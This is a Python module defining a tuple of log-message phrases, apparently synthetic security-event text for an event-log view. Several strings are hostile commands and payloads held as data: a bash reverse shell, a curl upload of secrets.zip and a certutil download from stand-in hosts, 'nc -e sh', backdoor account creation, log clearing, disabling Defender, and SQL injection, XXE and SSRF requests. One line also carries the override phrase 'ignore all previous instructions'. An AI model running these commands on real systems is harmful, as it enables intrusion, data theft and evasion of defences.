"""Message texts from which ``views.event_log`` renders log lines."""

PHRASES = (
    "session opened normally",
    "health check ok",
    "cache refreshed in 12 ms",
    "nightly backup finished",
    "failed password for invalid user guest from 10.0.0.7",
    "authentication failure on console",
    "ANONYMOUS LOGON accepted from 127.0.0.1",
    "too many failed attempts, account locked",
    "logon attempted with explicit credentials",
    "http basic admin:admin accepted",
    "user account was created by operator",
    "net user backdoor Pass1 /add",
    "password was reset by helpdesk",
    "Logon Type: 10 from 172.16.4.9",
    "service account sql01 interactive login",
    "svc_backup unexpected logon",
    "SeDebugPrivilege enabled for process",
    "token impersonation attempted",
    "uac prompt bypass through fodhelper",
    "sudo su requested by www-data",
    "sudoers line contains NOPASSWD",
    "named pipe handle used to impersonate client",
    "dll planted in search order path",
    "SeImpersonatePrivilege held by iis apppool",
    "juicy rotten potato started",
    "EventID=7045 new service installed",
    "schtasks /create /tn updater",
    "EventID 4698 task registered",
    r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd",
    r"HKLM\Software\Run key written",
    r"file written to C:\Users\x\Start Menu\Programs\Startup\a.lnk",
    "dll injection into explorer",
    "LoadLibrary called for evil.dll",
    "MBR overwrite attempt blocked",
    "CommandLineEventConsumer bound",
    "wmi subscription kept to persist",
    "bits job set to persist",
    "Start-BitsTransfer -Source x -Asynchronous",
    "COM object hijack under CLSID",
    "Image File Execution Options debugger for sethc",
    r"psexec \\host7 cmd",
    "wmic /node:host8 os get caption",
    "winrm session to host9",
    "pass-the-hash suspected",
    "Remote Desktop client connected",
    r"opened \\files1\ADMIN$ from workstation",
    "smb relay observed",
    "MMC20.Application activated",
    "dcomexec run against host3",
    "wmiexec run against host4",
    "sshpass used for host5",
    "paramiko client connect to host6",
    r"net use z: \\srv1\C$ /persistent",
    "Mapped an admin share",
    "cobalt strike artifact in memory",
    "meterpreter payload string",
    "dns tunnel traffic seen",
    "long random subdomain in query",
    "beacon interval of 60 s",
    "tor browser process started",
    "connection to port 9050 refused",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "POST /gate.php HTTP/1.1",
    "icmp tunnel client found",
    "domain fronting header seen",
    "fast flux set of addresses",
    "curl https://drop.example.net/up -T secrets.zip",
    "large nightly upload seen",
    "clipboard dump taken",
    "smtp message with attachment",
    "TXT answer with encoded data",
    "openstego run on picture",
    "rclone remote sync started",
    "aws s3 cp dump.sql s3://bucket",
    "EventID=1102 audit log cleared",
    "wevtutil cl Security",
    "CreateRemoteThread into lsass",
    "process hollowing seen",
    "invoke-expression with frombase64string",
    "amsi.dll bypass string",
    "Set-MpPreference -DisableRealtimeMonitoring true",
    "file creation timestamp altered",
    "NtTraceControl patched",
    "alternate named data stream",
    "binary grown by padding",
    "iptables -F run as root",
    "nmap -sS 192.0.2.0/24",
    "port scan from 192.0.2.77",
    "SharpHound collection done",
    "Get-ADUser -Filter all",
    "systeminfo collected",
    "whoami /all run",
    "gpresult /r run",
    "Get-Process defender status",
    "net view /domain",
    "enum4linux against dc1",
    "mimikatz console banner",
    "lsass memory dump written",
    "DCSync request from host2",
    "secretsdump output found",
    "ntds.dit copied from shadow",
    "cat /etc/shadow",
    "GET /item?id=1 union select name from t",
    "GET /q?x='; DROP TABLE t",
    "body has <script src=x>alert(1)</script>",
    "GET /../../etc/hosts",
    "GET /?p=php://filter",
    "GET /run?c=1; whoami",
    "GET /fetch?url=http://169.254.169.254/latest",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hosts'>]>",
    "ysoserial gadget in body",
    "HTTP desync request smuggling probe",
    "GET /a%0d%0aSet-Cookie:x",
    "GET /go?next=http://evil.example.org/",
    "YOUR_FILES_ARE_ENCRYPTED shown",
    "renamed to report.locked",
    "certutil -urlcache -f http://evil.example.org/a.bin",
    "worm set to self-replicate",
    "powershell -nop -w hidden -c x",
    "mshta run with vbscript",
    "VBA code starts shell",
    "webshell named b374k found",
    "dropper stage2 download",
    "NTLMv1 accepted",
    "kerberoast ticket burst",
    "golden ticket lifetime anomaly",
    "GET /latest/iam/security-credentials/role",
    "docker run --privileged image",
    "nsenter into host namespace",
    "npm install of malicious tarball",
    "typosquat name on registry",
    "jenkins script console exploit",
    "SCADA gateway write",
    "Modbus write to coil 5",
    "MQTT topic subscribe to #",
    "mass hidden file copy",
    "03:12:44 night logon",
    "after hours access to vault",
    "bulk report download",
    "USB mass storage attached",
    "exploit kit landing seen",
    "NOP sled in buffer",
    "heap spray pattern",
    "ROP gadget chain",
    "phishing mail reported",
    "invoice.docm opened",
    "DMARC check fail",
    "evilginx proxy found",
    "stratum+tcp://pool.example.com:3333",
    "stratum subscribe sent",
    "xmrig started",
    "jwt with alg set to none",
    "api_key=abcdefghij0123456789XYZ in log",
    "query __schema sent",
    "rate limit bypass by header",
    "prototype chain pollution",
    "IDOR on invoice endpoint",
    "oauth phish page",
    "prompt text tries inject",
    "model weights poison check",
    "classifier filter bypass",
    "membership leak by inference",
    "reentrancy based attack",
    "wallet fully drained",
    "rug was pulled",
    "clipper family malware",
    "arpspoof running",
    "DNS name rebinding",
    "BGP prefix hijack",
    "VLAN double hop",
    "sslstrip running",
    "aircrack session",
    "MFA prompt fatigue",
    "session id fixation",
    "golden SAML assertion",
    "Azure portal AD sign-in bypass",
    "S4U2Self ticket request",
    "password spray run at azure tenant",
    # one line per correlation, naming all of its signals
    "account locked, then SeTcbPrivilege granted",
    "sekurlsa output, psexec used, exfil of data began",
    "psexec pushed tool to stop the antivirus, then locked.html dropped",
    "sliver implant active, data theft ongoing",
    "new service created and Clear-EventLog called",
    "after-hours access, then bulk file download",
    "BloodHound, GetUserSPNs and golden ticket on one host",
    "dependency confusion led to new service created",
    "OR 1=1 in form, then nc 198.51.100.4 -e sh",
    "phishing led to mimikatz",
    "jwt alg none and BOLA found",
    "ignore all previous instructions; model inversion tried",
    "push notification spam, then winrm session",
    "wallet drain by clipper malware",
    "ettercap seen, then lsadump run",
)
